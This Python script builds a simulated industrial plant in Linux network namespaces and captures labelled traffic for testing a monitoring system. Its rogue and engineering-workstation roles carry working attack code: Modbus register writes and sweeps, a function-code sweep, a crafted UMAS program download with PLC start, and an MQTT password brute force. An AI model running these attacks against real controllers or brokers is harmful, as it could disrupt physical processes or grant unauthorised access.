#!/usr/bin/env python3
"""Capture a small plant that runs normally, then is attacked, with real peers in network namespaces.

Contract
--------
``sudo python pcaps/make_attack_scenarios.py [--duration 40] [--out pcaps/]``
writes ``attack-scenarios.pcap`` (classic pcap, Ethernet) and, beside it,
``attack-scenarios.json``: for each attack, the packet-time window
``[start, end]`` its role measured around it (wall clock inside the namespace,
the same clock tcpdump stamps frames with).  Needs root, ``ip netns``,
``tcpdump``, ``mosquitto`` and ``mosquitto_passwd``; the peers are pymodbus,
paho-mqtt, mosquitto and asyncua.  The namespace, bridge and tcpdump machinery
is make_demo_plant.py's (``build_topology``, ``Plant``, ``wait_for_tcpdump``,
``wait_listening``, ``cleanup_namespaces``), on 10.40.0.0/24.

The first ``NORMAL_FRACTION`` of the scenario is normal operation, which a
baseline learns from; it goes on unchanged while the attacks run:

* hmi polls plc1 and plc2 (FC 3 HR 0+10, FC 1 coils 0+16, FC 4 IR 0+8) at 2 Hz;
* ews reads plc1's recipe (FC 3 HR 100+4) and writes its setpoint (FC 6 HR 0) twice;
* sensor publishes plant/line1/temperature (QoS 0, 1 s) and plant/line1/pressure
  (QoS 1, 2 s) to mosquitto with a user name and password (anonymous access off);
* historian subscribes plant/line1/+ with its own credentials;
* scada reads Temperature every second over an OPC UA Basic256Sha256 **Sign**
  session (readable, signed), with a self-signed client certificate.

Then the attacks, one after another (``ATTACKS`` in order; fractions in
``TIMELINE``):

1. ``register_write``: rogue (a new host) writes plc1 HR 0 = 9999 (pymodbus client).
2. ``device_identification``: rogue reads plc1's device identification (FC 43/14).
3. ``function_code_sweep``: rogue sends every function code from 0 to 127 to plc2
   over a raw socket (one read first, so the stream is recognised as Modbus;
   reconnecting whenever pymodbus closes it).
4. ``register_sweep``: rogue reads plc1's holding registers 0..299 in blocks of 10.
5. ``program_download``: ews runs a UMAS (FC 90) session against plc1: init,
   reservation, strategy upload blocks, end of upload, start PLC — crafted over a
   real socket (pymodbus has no UMAS; it answers exceptions, which is fine:
   the requests are the attack).
6. ``mqtt_brute_force``: rogue tries user ``sensor`` with a list of passwords
   (raw MQTT 3.1.1 CONNECTs): mosquitto refuses each (CONNACK 5) until the last,
   which is right.
7. ``wildcard_subscriber``: with the guessed password rogue subscribes ``#``.
8. ``opcua_write``: scada's Sign session starts writing (Setpoint), which it never did.
9. ``opcua_security_none``: a second client on scada connects with SecurityMode None.

The same file is the program that runs inside each namespace (``--role``).
"""
from __future__ import annotations

import argparse
import asyncio
import json
import logging
import os
import shutil
import socket
import struct
import subprocess
import sys
import tempfile
import time
from pathlib import Path

HERE = Path(__file__).resolve().parent
if str(HERE) not in sys.path:
    sys.path.insert(0, str(HERE))

import make_demo_plant as plant  # noqa: E402  (namespace/bridge/tcpdump helpers)
from make_demo_plant import Host  # noqa: E402

DEFAULT_PREFIX = "otwatk"
DEFAULT_DURATION = 40.0
MIN_DURATION = 20.0
PCAP_NAME = "attack-scenarios.pcap"
WINDOWS_NAME = "attack-scenarios.json"

SUBNET_PREFIX_LEN = 24
BRIDGE_MAC = "02:00:0a:28:00:fe"
HOSTS: tuple[Host, ...] = (
    Host("plc1", "10.40.0.11", "00:80:f4:28:00:0b", "Modbus/TCP server 502 (pymodbus; unit 1, HR 0-119)"),
    Host("plc2", "10.40.0.12", "00:1b:1b:28:00:0c", "Modbus/TCP server 502 (pymodbus; unit 1, HR 0-119)"),
    Host("hmi", "10.40.0.21", "00:00:bc:28:00:15", "Modbus/TCP client polling both PLCs at 2 Hz"),
    Host("scada", "10.40.0.22", "02:00:0a:28:00:16",
         "OPC UA client: Sign session reading every 1 s; later writes; later a None session"),
    Host("ews", "10.40.0.31", "00:14:22:28:00:1f", "engineering workstation: recipe read, setpoint write; "
         "later a UMAS program download"),
    Host("historian", "10.40.0.41", "02:00:0a:28:00:29", "MQTT subscriber plant/line1/+ (user historian)"),
    Host("broker", "10.40.0.50", "02:00:0a:28:00:32", "mosquitto 1883, password file, anonymous off"),
    Host("opcua", "10.40.0.60", "02:00:0a:28:00:3c", "asyncua OPC UA server 4840 (None + Basic256Sha256 Sign)"),
    Host("rogue", "10.40.0.66", "02:00:0a:28:00:42", "attacker: Modbus write, identification, sweeps; "
         "MQTT brute force and '#'"),
    Host("sensor", "10.40.0.71", "02:00:0a:28:00:47", "MQTT 3.1.1 publisher (user sensor)"),
)
IP = {h.name: h.ip for h in HOSTS}
SERVERS = ("plc1", "plc2", "broker", "opcua")
CLIENTS = ("hmi", "ews", "sensor", "historian", "scada", "rogue")

MODBUS_PORT, MQTT_PORT, OPCUA_PORT = 502, 1883, 4840
OPCUA_URL = f"opc.tcp://{IP['opcua']}:{OPCUA_PORT}/otwatch/attack"
OPCUA_NS_URI = "urn:otwatch:attack:plant"
MQTT_USERS = {"sensor": "line1-Sensor", "historian": "hist-2025"}
BRUTE_PASSWORDS = ("admin", "password", "123456", "sensor", "mqtt", "changeme", "letmein", "line1",
                   "line1-Sensor")   # the last one is right
MODBUS_UNIT = 1
POLL_HZ = 2.0
HOLDING_COUNT = 120
CLIENT_STOP_MARGIN = 1.5

NORMAL_FRACTION = 0.45
"""The normal part: the scenario's first 45 %.  Nothing attacks before it ends."""
TIMELINE = {
    "ews_first": 0.10,
    "ews_second": 0.30,
    "register_write": 0.48,
    "device_identification": 0.51,
    "function_code_sweep": 0.54,
    "register_sweep": 0.60,
    "program_download": 0.65,
    "mqtt_brute_force": 0.70,
    "wildcard_subscriber": 0.74,
    "opcua_write": 0.80,
    "opcua_security_none": 0.86,
}
ATTACKS = ("register_write", "device_identification", "function_code_sweep", "register_sweep",
           "program_download", "mqtt_brute_force", "wildcard_subscriber", "opcua_write", "opcua_security_none")
WINDOW_MARK = "ATTACK-WINDOW"

log = logging.getLogger("attack-scenarios")


# ==========================================================================
# Builder (root namespace; only ever touches its own namespaces)
# ==========================================================================
def write_mosquitto_config(work: Path) -> Path:
    passwd = work / "mosquitto.passwd"
    first = True
    for user, pw in MQTT_USERS.items():
        plant.run(["mosquitto_passwd", *(["-c"] if first else []), "-b", str(passwd), user, pw])
        first = False
    os.chmod(passwd, 0o600)
    conf = work / "mosquitto.conf"
    conf.write_text(
        "# otwatch attack scenarios broker\n"
        "user root\n"
        f"listener {MQTT_PORT} {IP['broker']}\n"
        "allow_anonymous false\n"
        f"password_file {passwd}\n"
        "persistence false\n"
        "sys_interval 0\n"
        "log_dest stderr\n"
        "log_type error\nlog_type warning\nlog_type notice\nlog_type information\n"
        "connection_messages true\n"
    )
    return conf


# what run_scenario needs beyond the host table and the timeline
TOOLS = ("ip", "tcpdump", "mosquitto", "mosquitto_passwd")
WORK_PREFIX = "otwatch-attack-"
TCPDUMP_EXTRA: tuple = ()
SERVER_ROLES = ("plc1", "plc2", "opcua")
LISTEN = (("broker", "broker", "tcp", MQTT_PORT), ("plc1", "plc1", "tcp", MODBUS_PORT),
          ("plc2", "plc2", "tcp", MODBUS_PORT), ("opcua", "opcua", "tcp", OPCUA_PORT))
CLIENT_WAIT_DIV = 3


def build(args: argparse.Namespace) -> Path:
    return run_scenario(args, sys.modules[__name__])


def run_scenario(args: argparse.Namespace, sc) -> Path:
    """Build a scenario module's namespaces, capture its servers and timed clients on the bridge, and write the
    capture with its attack windows. *sc* is the scenario module: HOSTS, BRIDGE_MAC, SUBNET_PREFIX_LEN, TOOLS,
    WORK_PREFIX, TCPDUMP_EXTRA, SERVER_ROLES, LISTEN, CLIENTS, SERVERS, CLIENT_STOP_MARGIN, CLIENT_WAIT_DIV, ATTACKS,
    NORMAL_FRACTION, PCAP_NAME, write_mosquitto_config; its roles run as ``python <its file> --role NAME``."""
    me = str(Path(sc.__file__).resolve())
    if os.geteuid() != 0:
        raise SystemExit(f"{Path(me).name} needs root (network namespaces, tcpdump)")
    for tool in sc.TOOLS:
        if shutil.which(tool) is None:
            raise SystemExit(f"missing tool: {tool}")
    out = Path(args.out)
    out_file = out if out.suffix == ".pcap" else out / sc.PCAP_NAME
    out_file.parent.mkdir(parents=True, exist_ok=True)
    windows_file = out_file.with_suffix(".json")

    prefix = args.prefix
    plant.cleanup_namespaces(prefix)
    work = Path(tempfile.mkdtemp(prefix=sc.WORK_PREFIX))
    os.chmod(work, 0o755)
    p = plant.Plant(prefix, work)
    failures: list[str] = []
    try:
        log.info("building %d namespaces (prefix %s)", len(sc.HOSTS) + 1, prefix)
        plant.build_topology(prefix, sc.HOSTS, sc.BRIDGE_MAC, sc.SUBNET_PREFIX_LEN)
        conf = sc.write_mosquitto_config(work)
        raw = work / "capture.pcap"
        p.spawn("tcpdump", "sw", ["tcpdump", "-i", "br0", "-s", "0", "-n", "-U", "-Z", "root", *sc.TCPDUMP_EXTRA,
                                  "--immediate-mode", "-w", str(raw), *getattr(sc, "TCPDUMP_FILTER", ())])
        plant.wait_for_tcpdump(p, raw)

        def role(name, start, stop):
            p.spawn(name, name, [sys.executable, me, "--role", name, "--start", repr(start), "--end", repr(stop),
                                 "--work", str(work)])

        p.spawn("broker", "broker", ["mosquitto", "-c", str(conf)])
        far = time.time() + args.duration + 120
        for name in sc.SERVER_ROLES:
            role(name, time.time(), far)
        plant.wait_listening(p, prefix, sc.LISTEN)
        t0 = time.time()
        end = t0 + args.duration
        log.info("servers listening; scenario %.0f s", args.duration)
        for name in sc.CLIENTS:
            role(name, t0, end - sc.CLIENT_STOP_MARGIN)
        while time.time() < end:
            time.sleep(0.2)
        for name in sc.CLIENTS:
            try:
                rc = p.procs[name].wait(timeout=max(10.0, args.duration / sc.CLIENT_WAIT_DIV))
            except subprocess.TimeoutExpired:
                rc = "timeout"
            if rc != 0:
                failures.append(f"{name} exited {rc}:\n{p.tail(name, 30)}")
        for name in sc.SERVERS:
            if p.procs[name].poll() is not None:
                failures.append(f"server {name} died early:\n{p.tail(name, 30)}")
            p.stop(name)
        time.sleep(0.3)
        p.stop("tcpdump")
        windows = collect_windows(work)
        missing = [a for a in sc.ATTACKS if a not in windows]
        if missing:
            failures.append(f"attacks without a window: {missing}")
        shutil.copyfile(raw, out_file)
        os.chmod(out_file, 0o644)
        windows_file.write_text(json.dumps({"normal_fraction": sc.NORMAL_FRACTION, "start": t0, "end": end,
                                            "attacks": windows}, indent=1, sort_keys=True) + "\n")
        os.chmod(windows_file, 0o644)
    finally:
        p.stop_all()
        plant.cleanup_namespaces(prefix)
        if args.keep_work:
            log.info("role logs kept in %s", work)
        else:
            shutil.rmtree(work, ignore_errors=True)
    if failures:
        raise SystemExit("some roles failed:\n" + "\n\n".join(failures))
    log.info("wrote %s (%d bytes) and %s", out_file, out_file.stat().st_size, windows_file)
    return out_file


def collect_windows(work: Path) -> dict:
    """{attack: [start, end]} from the ATTACK-WINDOW lines the roles printed."""
    out = {}
    for logf in work.glob("*.log"):
        for line in logf.read_text(errors="replace").splitlines():
            if line.startswith(WINDOW_MARK + " "):
                _, name, a, b = line.split()
                out[name] = [float(a), float(b)]
    return dict(sorted(out.items()))


# ==========================================================================
# Roles (inside the namespaces)
# ==========================================================================
def at(args, key: str) -> float:
    return args.start + (args.end - args.start) * TIMELINE[key]


class window:
    """Print the attack's wall-clock window (the clock tcpdump uses) around a block."""

    def __init__(self, name: str):
        self.name = name

    def __enter__(self):
        self.t0 = time.time()
        return self

    def __exit__(self, *exc):
        if exc[0] is None:
            print(f"{WINDOW_MARK} {self.name} {self.t0 - 0.001:.6f} {time.time() + 0.05:.6f}", flush=True)


async def plc_main(args) -> None:
    from pymodbus.pdu.device import ModbusDeviceIdentification
    from pymodbus.server import ModbusTcpServer
    from pymodbus.simulator import DataType, SimData, SimDevice

    ident = dict(plant.PLC_IDENTITY[args.role])
    identity = ModbusDeviceIdentification(info_name=ident)
    device = SimDevice(
        MODBUS_UNIT,
        simdata=(
            [SimData(0, values=list(plant.PLC_COILS[args.role]), datatype=DataType.BITS)],
            [SimData(0, values=list(plant.PLC_DISCRETE), datatype=DataType.BITS)],
            [SimData(0, values=list(plant.PLC_HOLDING[args.role])[:HOLDING_COUNT], datatype=DataType.REGISTERS)],
            [SimData(0, values=[0] * plant.PLC_INPUT_COUNT, datatype=DataType.REGISTERS)],
        ),
        identity=identity,
    )
    server = ModbusTcpServer(device, identity=identity, address=(IP[args.role], MODBUS_PORT))
    stop = plant.install_sigterm(asyncio.get_running_loop())
    task = asyncio.create_task(server.serve_forever())
    await stop.wait()
    await server.shutdown()
    task.cancel()
    await asyncio.gather(task, return_exceptions=True)


async def opcua_server_main(args) -> None:
    from asyncua import Server, ua
    from asyncua.crypto.cert_gen import setup_self_signed_certificate
    from cryptography.x509.oid import ExtendedKeyUsageOID

    work = Path(args.work)
    key, cert = work / "opcua-server-key.pem", work / "opcua-server-cert.der"
    await setup_self_signed_certificate(
        key, cert, "urn:otwatch:attack:opcua-server", "opcua.plant.local",
        [ExtendedKeyUsageOID.SERVER_AUTH, ExtendedKeyUsageOID.CLIENT_AUTH],
        {"countryName": "DE", "organizationName": "otwatch attack plant", "commonName": "opcua.plant.local"},
    )
    server = Server()
    await server.init()
    server.set_endpoint(OPCUA_URL)
    server.set_server_name("otwatch attack-scenario OPC UA server")
    await server.set_application_uri("urn:otwatch:attack:opcua-server")
    server.set_security_policy([ua.SecurityPolicyType.NoSecurity, ua.SecurityPolicyType.Basic256Sha256_Sign])
    await server.load_certificate(str(cert))
    await server.load_private_key(str(key))
    idx = await server.register_namespace(OPCUA_NS_URI)
    line = await server.nodes.objects.add_object(idx, "Line1")
    temp = await line.add_variable(idx, "Temperature", 21.5)
    setpoint = await line.add_variable(idx, "Setpoint", 70.0)
    await setpoint.set_writable()
    stop = plant.install_sigterm(asyncio.get_running_loop())
    async with server:
        n = 0
        while not stop.is_set():
            n += 1
            await temp.write_value(21.5 + (n % 20) * 0.1)
            try:
                await asyncio.wait_for(stop.wait(), 0.5)
            except asyncio.TimeoutError:
                pass


async def hmi_main(args) -> None:
    clients = [await plant.modbus_client(IP[p], args.end) for p in ("plc1", "plc2")]
    period = 1.0 / POLL_HZ
    next_t = time.time()
    while time.time() + period < args.end:
        for c in clients:
            await c.read_holding_registers(0, count=10, device_id=MODBUS_UNIT)
            await c.read_coils(0, count=16, device_id=MODBUS_UNIT)
            await c.read_input_registers(0, count=8, device_id=MODBUS_UNIT)
        next_t += period
        await asyncio.sleep(max(0.0, next_t - time.time()))
    for c in clients:
        c.close()


async def ews_main(args) -> None:
    for key, value in (("ews_first", 750), ("ews_second", 760)):
        await plant.async_wait_until(at(args, key))
        c = await plant.modbus_client(IP["plc1"], args.end)
        await c.read_holding_registers(100, count=4, device_id=MODBUS_UNIT)
        await c.write_register(0, value, device_id=MODBUS_UNIT)
        c.close()
    await plant.async_wait_until(at(args, "program_download"))
    with window("program_download"):
        umas_download()


TIOCOUTQ = 0x5411
"""linux/sockios.h SIOCOUTQ: bytes not yet acknowledged in a socket's send queue."""


def raw_socket(host: str) -> socket.socket:
    """A connection for crafted requests: no Nagle, so each request leaves when it is sent (not
    coalesced and flushed after the attack's window has closed)."""
    s = plant.retry_connect_tcp(host, MODBUS_PORT, time.time() + 10)
    s.setsockopt(socket.IPPROTO_TCP, socket.TCP_NODELAY, 1)
    return s


def drained_close(s: socket.socket, timeout: float = 3.0) -> None:
    """Close once everything sent was acknowledged, so no request leaves after the window ends."""
    import fcntl

    deadline = time.time() + timeout
    while time.time() < deadline:
        left = struct.unpack("i", fcntl.ioctl(s.fileno(), TIOCOUTQ, b"\0\0\0\0"))[0]
        if left == 0:
            break
        time.sleep(0.01)
    s.close()


def umas_download() -> None:
    """A UMAS strategy transfer to plc1, as Schneider's engineering software opens it
    (spec.UMAS_FUNCTIONS): init_comm, read_id, take_plc_reservation, initialize_upload,
    upload_block x3, end_strategy_upload, start_plc, release_plc_reservation."""
    steps = [bytes([0x5A, 0x00, 0x01, 0x00]),
             bytes([0x5A, 0x00, 0x02]),
             bytes([0x5A, 0x00, 0x10, 0x3B, 0x01]) + b"\x00" * 4 + b"EWS-ATTACK",
             bytes([0x5A, 0x00, 0x30, 0x01, 0x00])]
    steps += [bytes([0x5A, 0x00, 0x31, 0x01, 0x00, n, 0x00]) + bytes(range(64)) for n in range(3)]
    steps += [bytes([0x5A, 0x00, 0x32, 0x01, 0x00]), bytes([0x5A, 0x00, 0x40, 0xFF, 0x00]),
              bytes([0x5A, 0x00, 0x11])]
    s = raw_socket(IP["plc1"])
    for i, pdu in enumerate(steps):
        r = plant.modbus_raw(s, 0x5A00 + i, MODBUS_UNIT, pdu, timeout=0.3)
        if r == b"":
            s.close()
            s = raw_socket(IP["plc1"])
    drained_close(s)


def _mqtt_client(client_id: str):
    import paho.mqtt.client as mqtt

    return mqtt.Client(mqtt.CallbackAPIVersion.VERSION2, client_id=client_id, protocol=mqtt.MQTTv311)


def _mqtt_connect(c, deadline: float, keepalive: int) -> None:
    plant._mqtt_connect(c, deadline, keepalive, broker=IP["broker"])


def role_sensor(args) -> None:
    c = _mqtt_client("line1-sensor")
    c.username_pw_set("sensor", MQTT_USERS["sensor"])
    _mqtt_connect(c, args.end, keepalive=30)
    n = 0
    while time.time() + 1.0 < args.end:
        n += 1
        c.publish("plant/line1/temperature", f"{21.5 + (n % 10) * 0.1:.1f}", qos=0)
        if n % 2 == 0:
            c.publish("plant/line1/pressure", json.dumps({"bar": 1.0 + (n % 5) * 0.01, "seq": n}), qos=1)
        time.sleep(1.0)
    c.disconnect()
    c.loop_stop()


def role_historian(args) -> None:
    c = _mqtt_client("historian")
    c.username_pw_set("historian", MQTT_USERS["historian"])
    _mqtt_connect(c, args.end, keepalive=30)
    c.subscribe("plant/line1/+", 1)
    plant.wait_until(args.end - 0.3)
    c.disconnect()
    c.loop_stop()


def mqtt_connect_packet(client_id: str, user: str, password: str) -> bytes:
    """MQTT 3.1.1 CONNECT (OASIS MQTT 3.1.1 §3.1): clean session, user name and password flags."""
    def s(b: bytes) -> bytes:
        return struct.pack("!H", len(b)) + b

    var = s(b"MQTT") + bytes([4, 0xC2]) + struct.pack("!H", 30)
    payload = s(client_id.encode()) + s(user.encode()) + s(password.encode())
    body = var + payload
    return bytes([0x10, len(body)]) + body


def mqtt_try(client_id: str, user: str, password: str) -> int:
    """One CONNECT on its own connection; the CONNACK return code (-1 when none)."""
    with socket.create_connection((IP["broker"], MQTT_PORT), timeout=2) as s:
        s.sendall(mqtt_connect_packet(client_id, user, password))
        try:
            ack = s.recv(4)
        except socket.timeout:
            return -1
        if len(ack) == 4 and ack[0] == 0x20:
            if ack[3] == 0:
                s.sendall(b"\xe0\x00")       # DISCONNECT
            return ack[3]
        return -1


def role_rogue(args) -> None:
    asyncio.run(rogue_modbus(args))
    plant.wait_until(at(args, "mqtt_brute_force"))
    with window("mqtt_brute_force"):
        found = None
        for pw in BRUTE_PASSWORDS:
            rc = mqtt_try("mqtt-brute", "sensor", pw)
            print("brute", pw, rc)
            if rc == 0:
                found = pw
                break
    if found is None:
        raise RuntimeError("the brute force found nothing")
    plant.wait_until(at(args, "wildcard_subscriber"))
    with window("wildcard_subscriber"):
        c = _mqtt_client("mqtt-explorer-6f1c")
        c.username_pw_set("sensor", found)
        _mqtt_connect(c, args.end, keepalive=30)
        c.subscribe("#", 0)
        time.sleep(min(1.5, max(0.2, args.end - time.time() - 0.5)))
        c.disconnect()
        c.loop_stop()


async def rogue_modbus(args) -> None:
    await plant.async_wait_until(at(args, "register_write"))
    with window("register_write"):
        c = await plant.modbus_client(IP["plc1"], args.end)
        await c.write_register(0, 9999, device_id=MODBUS_UNIT)
        c.close()
    await plant.async_wait_until(at(args, "device_identification"))
    with window("device_identification"):
        c = await plant.modbus_client(IP["plc1"], args.end)
        r = await c.read_device_information(read_code=1, object_id=0, device_id=MODBUS_UNIT)
        print("device id:", getattr(r, "information", r))
        c.close()
    await plant.async_wait_until(at(args, "function_code_sweep"))
    with window("function_code_sweep"):
        fc_sweep()
    await plant.async_wait_until(at(args, "register_sweep"))
    with window("register_sweep"):
        c = await plant.modbus_client(IP["plc1"], args.end)
        for start in range(0, 300, 10):
            await c.read_holding_registers(start, count=10, device_id=MODBUS_UNIT)
        c.close()


def fc_sweep() -> None:
    """Function codes 0..127 to plc2 with the body 00 00 00 01; one ordinary read first on
    every connection (a monitor recognises Modbus by its first message)."""
    s = raw_socket(IP["plc2"])
    plant.modbus_raw(s, 0x7700, MODBUS_UNIT, b"\x03\x00\x00\x00\x01")
    answered = 0
    for fc in range(0, 128):
        r = plant.modbus_raw(s, 0x7710 + fc, MODBUS_UNIT, bytes([fc]) + b"\x00\x00\x00\x01", timeout=0.1)
        if r == b"":
            s.close()
            s = raw_socket(IP["plc2"])
            plant.modbus_raw(s, 0x7700, MODBUS_UNIT, b"\x03\x00\x00\x00\x01")
        elif r is not None:
            answered += 1
    drained_close(s)
    print(f"fc sweep: {answered} answers")


async def scada_main(args) -> None:
    from asyncua import Client
    from asyncua.crypto.cert_gen import setup_self_signed_certificate
    from cryptography.x509.oid import ExtendedKeyUsageOID

    work = Path(args.work)
    ckey, ccert = work / "scada-key.pem", work / "scada-cert.der"
    await setup_self_signed_certificate(
        ckey, ccert, "urn:otwatch:attack:scada", "scada.plant.local", [ExtendedKeyUsageOID.CLIENT_AUTH],
        {"countryName": "DE", "organizationName": "otwatch attack plant", "commonName": "scada"},
    )
    client = Client(OPCUA_URL, timeout=4)
    client.application_uri = "urn:otwatch:attack:scada"
    await client.set_security_string(f"Basic256Sha256,Sign,{ccert},{ckey}")
    while True:
        try:
            await client.connect()
            break
        except (OSError, asyncio.TimeoutError):
            if time.time() > args.end:
                raise
            await asyncio.sleep(0.3)
    try:
        idx = await client.get_namespace_index(OPCUA_NS_URI)
        line = await client.nodes.objects.get_child([f"{idx}:Line1"])
        temp = await line.get_child([f"{idx}:Temperature"])
        setpoint = await line.get_child([f"{idx}:Setpoint"])
        wrote = none_done = False
        while time.time() + 1.0 < args.end:
            await temp.read_value()
            if not wrote and time.time() >= at(args, "opcua_write"):
                with window("opcua_write"):
                    await setpoint.write_value(99.5)
                wrote = True
            if not none_done and time.time() >= at(args, "opcua_security_none"):
                with window("opcua_security_none"):
                    plain = Client(OPCUA_URL, timeout=4)
                    async with plain:
                        await plain.get_node(temp.nodeid).read_value()
                none_done = True
            await asyncio.sleep(1.0)
    finally:
        await client.disconnect()


# ==========================================================================
def host_table() -> str:
    return plant.host_table(HOSTS)


def windows_table(path: Path) -> str:
    """README table of the attack windows in ``attack-scenarios.json`` (seconds from the scenario start)."""
    w = json.loads(path.read_text())
    t0 = w["start"]
    lines = ["| attack | from (s) | to (s) |", "|---|---:|---:|"]
    for name in ATTACKS:
        a, b = w["attacks"][name]
        lines.append(f"| {name} | {a - t0:.3f} | {b - t0:.3f} |")
    return "\n".join(lines)


def main(argv: list[str] | None = None) -> int:
    ap = argparse.ArgumentParser(description=__doc__.split("\n\n")[0],
                                 formatter_class=argparse.RawDescriptionHelpFormatter)
    ap.add_argument("--duration", type=float, default=DEFAULT_DURATION,
                    help=f"scenario length in seconds (default {DEFAULT_DURATION:.0f}, minimum {MIN_DURATION:.0f})")
    ap.add_argument("--out", default=str(HERE), help=f"output directory (writes {PCAP_NAME}) or a .pcap path")
    ap.add_argument("--prefix", default=DEFAULT_PREFIX, help=f"namespace name prefix (default {DEFAULT_PREFIX})")
    ap.add_argument("--keep-work", action="store_true", help="keep the work dir with role logs")
    ap.add_argument("--readme-tables", metavar="JSON", help="print the README tables for JSON and exit")
    ap.add_argument("--role", help=argparse.SUPPRESS)
    ap.add_argument("--start", type=float, help=argparse.SUPPRESS)
    ap.add_argument("--end", type=float, help=argparse.SUPPRESS)
    ap.add_argument("--work", help=argparse.SUPPRESS)
    args = ap.parse_args(argv)
    logging.basicConfig(level=logging.INFO, format="%(asctime)s %(name)s %(message)s")
    if args.readme_tables:
        print(host_table() + "\n\n" + windows_table(Path(args.readme_tables)))
        return 0
    if args.role is None:
        if args.duration < MIN_DURATION:
            ap.error(f"--duration must be at least {MIN_DURATION:.0f} s")
        build(args)
        return 0
    logging.getLogger("asyncua").setLevel(logging.CRITICAL)
    logging.getLogger("pymodbus").setLevel(logging.CRITICAL)
    role = args.role
    if role == "ifprep":
        plant.role_ifprep()
    elif role in ("plc1", "plc2"):
        asyncio.run(plc_main(args))
    elif role == "opcua":
        asyncio.run(opcua_server_main(args))
    elif role in ("hmi", "ews", "scada"):
        plant.install_sigterm()
        asyncio.run({"hmi": hmi_main, "ews": ews_main, "scada": scada_main}[role](args))
    elif role == "sensor":
        role_sensor(args)
    elif role == "historian":
        role_historian(args)
    elif role == "rogue":
        role_rogue(args)
    else:
        raise SystemExit(f"unknown role {role}")
    return 0


if __name__ == "__main__":
    sys.exit(main())
